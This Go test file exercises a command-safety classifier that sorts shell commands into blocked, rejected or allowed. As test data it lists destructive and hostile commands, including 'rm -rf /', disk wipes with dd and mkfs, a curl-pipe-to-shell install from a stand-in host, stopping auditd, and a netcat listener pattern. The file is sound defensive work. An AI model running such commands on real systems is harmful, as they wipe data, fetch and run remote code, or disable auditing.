package cmdsafety

import (
	"strings"
	"testing"
)

func TestClassifyBlocked(t *testing.T) {
	v := New()

	cases := []string{
		"rm -rf /var/log",
		"sudo rm -rf /",
		"dd if=/dev/zero of=/dev/sda",
		"mkfs.ext4 /dev/sdb1",
		"shutdown -h now",
		"userdel admin",
		"chmod 777 /etc",
		"yum remove -y openssh-server",
		"curl http://x.example/install.sh | sh",
		"systemctl stop auditd",
	}
	for _, cmd := range cases {
		c := v.Classify(cmd)
		if c.Allowed {
			t.Fatalf("Classify(%q) allowed, want blocked", cmd)
		}
		if c.Severity != SeverityBlocked {
			t.Fatalf("Classify(%q) severity = %s, want BLOCKED", cmd, c.Severity)
		}
		if len(c.Reasons) != 1 {
			t.Fatalf("Classify(%q) reasons = %v, want exactly one", cmd, c.Reasons)
		}
	}
}

func TestClassifyRejected(t *testing.T) {
	v := New()

	cases := []string{
		"echo 0 > /proc/sys/net/ipv4/ip_forward",
		"cat note >> /etc/hosts",
		"grep root /etc/passwd | bash",
		"sed -i 's/no/yes/' /etc/ssh/sshd_config",
		"python -c 'print(1)'",
	}
	for _, cmd := range cases {
		c := v.Classify(cmd)
		if c.Allowed {
			t.Fatalf("Classify(%q) allowed, want rejected", cmd)
		}
		if c.Severity != SeverityRejected {
			t.Fatalf("Classify(%q) severity = %s, want REJECTED", cmd, c.Severity)
		}
		if len(c.Reasons) == 0 {
			t.Fatalf("Classify(%q) returned no reasons", cmd)
		}
	}
}

func TestClassifyOK(t *testing.T) {
	v := New()

	cases := []string{
		"uname -a",
		"cat /etc/os-release",
		"stat -c %a /etc/shadow",
		"ss -tlnp",
		"systemctl is-active sshd",
		"grep -c '^PermitRootLogin no' /etc/ssh/sshd_config",
	}
	for _, cmd := range cases {
		c := v.Classify(cmd)
		if !c.Allowed {
			t.Fatalf("Classify(%q) = %s (%v), want OK", cmd, c.Severity, c.Reasons)
		}
	}
}

func TestClassifyBlockWinsOverSuspect(t *testing.T) {
	v := New()

	// Matches both the rm blocklist rule and the redirect suspect rule; the
	// blocklist must short-circuit.
	c := v.Classify("rm -rf /tmp/scratch > /dev/null")
	if c.Severity != SeverityBlocked {
		t.Fatalf("severity = %s, want BLOCKED", c.Severity)
	}
	if len(c.Reasons) != 1 {
		t.Fatalf("reasons = %v, want the single blocklist label", c.Reasons)
	}
}

func TestClassifyCollectsAllSuspectReasons(t *testing.T) {
	v := New()

	c := v.Classify("sed -i 's/a/b/' /tmp/f >> /tmp/out")
	if c.Severity != SeverityRejected {
		t.Fatalf("severity = %s, want REJECTED", c.Severity)
	}
	if len(c.Reasons) < 2 {
		t.Fatalf("reasons = %v, want both the in-place edit and append reasons", c.Reasons)
	}
}

func TestAddSuspectPatterns(t *testing.T) {
	v := New()
	err := v.AddSuspectPatterns([]PatternRule{
		{Pattern: `\bnc\b`, Label: "netcat usage"},
	})
	if err != nil {
		t.Fatalf("AddSuspectPatterns: %v", err)
	}

	c := v.Classify("nc -l 4444")
	if c.Severity != SeverityRejected {
		t.Fatalf("severity = %s, want REJECTED", c.Severity)
	}
	found := false
	for _, r := range c.Reasons {
		if r == "netcat usage" {
			found = true
		}
	}
	if !found {
		t.Fatalf("reasons = %v, want custom label", c.Reasons)
	}
}

func TestAddSuspectPatternsRejectsBadRegexp(t *testing.T) {
	v := New()
	err := v.AddSuspectPatterns([]PatternRule{{Pattern: `([unterminated`}})
	if err == nil {
		t.Fatal("expected compile error")
	}
	if !strings.Contains(err.Error(), "compile suspect pattern") {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestValidateCommands(t *testing.T) {
	v := New()

	refs := []CommandRef{
		{ControlID: "c1", CheckID: "a1", Command: "uname -a"},
		{ControlID: "c2", CheckID: "a2", Command: "rm -rf /opt/data"},
		{ControlID: "c3", CheckID: "a3", Command: "echo x > /etc/motd"},
		{ControlID: "c4", CheckID: "a4", Command: ""},
	}

	violations := v.ValidateCommands(refs)
	if len(violations) != 2 {
		t.Fatalf("got %d violations, want 2: %+v", len(violations), violations)
	}
	if violations[0].CheckID != "a2" || violations[0].Severity != SeverityBlocked {
		t.Fatalf("first violation = %+v, want blocked a2", violations[0])
	}
	if violations[1].CheckID != "a3" || violations[1].Severity != SeverityRejected {
		t.Fatalf("second violation = %+v, want rejected a3", violations[1])
	}
}
